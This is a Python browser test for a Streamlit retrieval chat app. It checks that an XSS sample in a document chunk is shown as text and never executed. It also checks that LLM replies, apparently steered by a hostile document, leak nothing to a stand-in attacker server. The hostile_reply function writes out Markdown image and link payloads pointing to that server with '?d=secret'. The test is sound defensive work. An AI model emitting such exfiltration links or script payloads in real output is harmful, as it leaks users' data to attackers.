"""A real browser on the real app: `streamlit run ui/app.py` on 127.0.0.1 (tiny model, embedded milvus-lite, the
test-owned Ollama-protocol server), driven by Debian's Chromium (headless) through Playwright.

Needs the Debian package `chromium` (apt-get install -y chromium) and the Python package `playwright`; Playwright's
own browser download is never used. Saves test-output/screenshot-chat.png; with UPDATE_SCREENSHOT=1 it also copies it
to docs/screenshot-chat.png (the README's screenshot), so that a plain test run leaves the working tree clean.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from ingest.pipeline import IngestPipeline
from rag.config import Settings
from rag.encoder import Encoder
from rag.store import MilvusStore
from tests.support.ollama_server import OllamaTestServer, free_port
from tests.ui.browser import SCROLL_TO_TOP, SHOTS, chromium_page, keep_screenshots, needs_chromium, served_app
from tests.ui.conftest import KB
from ui.safe_markdown import WORD_JOINER

SCRIPT = "<script>alert(1)</script>"
QUESTION = "How many days per week can I work remotely?"
REPLY = ("Employees may work remotely up to three days per week [1]. The security note shows its example tag "
         "as plain text [2].")
DOCUMENTS = {
    "remote-work.md": "# Remote work policy\n\nEmployees may work remotely up to three days per week. "
                      "Fully remote work needs a manager's approval.\n",
    "security-note.txt": f"Security note: a chunk may contain HTML such as {SCRIPT} and the app must show it "
                         "as text, never run it. Remote work laptops must use disk encryption.\n",
    "annual-leave-zh.txt": "年假政策：员工每年享有十五天带薪年假，入职满一年后可申请远程办公。\n",
}


@pytest.fixture
def browser_kb(ui_settings: Callable[..., Settings], ui_encoder: Encoder, tmp_path: Path) -> Settings:
    """A small knowledge base with a chunk holding a <script> tag, in an embedded milvus-lite that is closed again
    (released) so that the app's process can open it."""
    docs = tmp_path / "docs"
    docs.mkdir()
    for name, text in DOCUMENTS.items():
        (docs / name).write_text(text, encoding="utf-8")
    settings = ui_settings(tmp_path, retrieval={"top_k": 5})
    with MilvusStore(settings.milvus) as store:
        report = IngestPipeline(settings, ui_encoder, store).run([docs], kb=KB)
    assert not report.failed and report.added == len(DOCUMENTS)
    return settings


@pytest.fixture
def app_url(browser_kb: Settings, ollama_server: OllamaTestServer, tmp_path: Path) -> Iterator[str]:
    """The app served by `streamlit run` in its own process on ``browser_kb`` (each browser test module has its
    own) and the test's Ollama-protocol server; yields its URL."""
    settings = browser_kb.model_copy(update={"llm": browser_kb.llm.model_copy(update={"base_url": ollama_server.url})})
    with served_app(settings, tmp_path) as url:
        yield url


@needs_chromium
def test_chat_in_a_real_browser(app_url: str, ollama_server: OllamaTestServer) -> None:
    from playwright.sync_api import expect

    ollama_server.behaviour.reply = REPLY
    ollama_server.behaviour.piece_delay_s = 0.03  # a visible stream of pieces
    with chromium_page() as (page, dialogs):
        page.goto(app_url)
        box = page.get_by_test_id("stChatInputTextArea")
        box.wait_for(timeout=120_000)
        box.fill(QUESTION)
        box.press("Enter")

        answer = page.get_by_test_id("stChatMessage").filter(has_text="three days per week [1]")
        expect(answer.first).to_contain_text(REPLY, timeout=60_000)
        cards = page.locator(".rs-card")
        expect(cards.first).to_be_visible(timeout=30_000)
        assert cards.count() == len(DOCUMENTS)
        expect(cards.first).to_contain_text("dense")

        script_card = cards.filter(has_text=SCRIPT)  # the tag is the card's visible text ...
        expect(script_card).to_have_count(1)
        expect(script_card.locator(".rs-text")).to_contain_text(f"such as {SCRIPT} and the app")
        assert page.locator(".rs-card script").count() == 0  # ... and no element
        page.wait_for_timeout(500)
        assert dialogs == []  # alert(1) never ran

        # The conversation scrolls inside Streamlit's main area: show it from the question down.
        page.get_by_test_id("stChatMessage").first.evaluate(SCROLL_TO_TOP)
        page.wait_for_timeout(300)
        shot = SHOTS / "screenshot-chat.png"
        page.screenshot(path=str(shot))
    keep_screenshots(shot)


class OutsideServer:
    """Another origin (its own port on 127.0.0.1) standing for an attacker's host: records every path requested."""

    def __init__(self) -> None:
        paths = self.paths = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def outside() -> Iterator[OutsideServer]:
    server = OutsideServer()
    yield server
    server.close()


def hostile_reply(outside: str) -> Callable[[dict[str, Any]], str]:
    """Ollama replies a hostile document could steer a model into: Markdown images and links to ``outside``."""

    def reply(body: dict[str, Any]) -> str:
        if "standalone question" in json.dumps(body["messages"]):  # the follow-up rewrite
            return f"remote work ![q]({outside}/rewritten.gif?d=secret) <{outside}/rewritten-auto>"
        return (f"Three days per week [1]. ![exfil]({outside}/answer.gif?d=secret) ![ref][r] "
                f"[details]({outside}/answer-link) <{outside}/answer-auto> {outside}/answer-bare\n\n"
                f"[r]: {outside}/answer-ref.gif\n")

    return reply


@needs_chromium
def test_item1_text_from_the_llm_and_from_files_loads_nothing_from_outside(
    app_url: str, ollama_server: OllamaTestServer, outside: OutsideServer, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    ollama_server.behaviour.reply = hostile_reply(outside.url)
    records = tmp_path / "hostile.jsonl"  # a duplicate record id: the failed-files box shows the id
    image_id = f"![f]({outside.url}/failed-file.gif?d=secret)"
    records.write_text("".join(json.dumps({"id": image_id, "text": f"row {n}"}) + "\n" for n in (1, 2)),
                       encoding="utf-8")
    requests: list[str] = []
    with chromium_page() as (page, dialogs):
        page.on("request", lambda request: requests.append(request.url))
        page.goto(app_url)
        box = page.get_by_test_id("stChatInputTextArea")
        box.wait_for(timeout=120_000)
        box.fill(QUESTION)
        box.press("Enter")
        answers = page.get_by_test_id("stChatMessage")
        expect(answers.nth(1)).to_contain_text("Three days per week [1].", timeout=60_000)
        expect(page.locator(".rs-card").first).to_be_visible(timeout=30_000)
        box.fill("And after that?")
        box.press("Enter")
        expect(answers.nth(3)).to_contain_text("Searched for: remote work", timeout=60_000)
        shown = [answers.nth(1).inner_text(), answers.nth(3).inner_text()]

        page.goto(f"{app_url}/knowledge-bases")
        page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(records))
        page.get_by_role("button", name="Ingest").click()
        failed = page.get_by_test_id("stAlert").filter(has_text="Failed files")
        expect(failed).to_contain_text("duplicate id", timeout=60_000)
        shown.append(failed.inner_text())
        page.wait_for_timeout(1000)  # time for any image to be requested
        loaders = page.locator(f"[data-testid=stMain] img, [data-testid=stMain] a[href^='{outside.url}']")
        loaders = loaders.evaluate_all("found => found.map(e => e.outerHTML)")
    assert dialogs == []
    assert outside.paths == []  # the outside host saw nothing ...
    assert [url for url in requests if not url.startswith((app_url + "/", "data:", "blob:"))] == []  # ... nor any
    assert loaders == []
    # What the user sees instead: images and links as text.
    answer, follow_up, failed_box = (text.replace(WORD_JOINER, "") for text in shown)  # invisible anyway
    assert "[image: exfil]" in answer and "[image: ref]" in answer
    assert f"details ({outside.url}/answer-link)" in answer and f"{outside.url}/answer-auto" in answer
    assert f"Searched for: remote work ![q]({outside.url}/rewritten.gif?d=secret) <{outside.url}" in follow_up
    assert f"duplicate id '{image_id}'" in failed_box
